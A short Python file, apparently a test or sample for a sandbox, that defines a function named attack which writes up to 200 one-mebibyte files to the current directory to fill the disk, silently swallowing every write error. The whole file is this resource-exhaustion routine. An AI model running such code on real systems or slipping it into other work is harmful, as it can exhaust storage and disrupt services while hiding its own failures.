"""Fill the disk with files of 1 MiB, swallowing every error."""


def attack(*args):
    block = b"x" * (1 << 20)
    for i in range(200):
        try:
            with open(f"fill-{i}.bin", "wb") as f:
                f.write(block)
        except OSError:
            pass
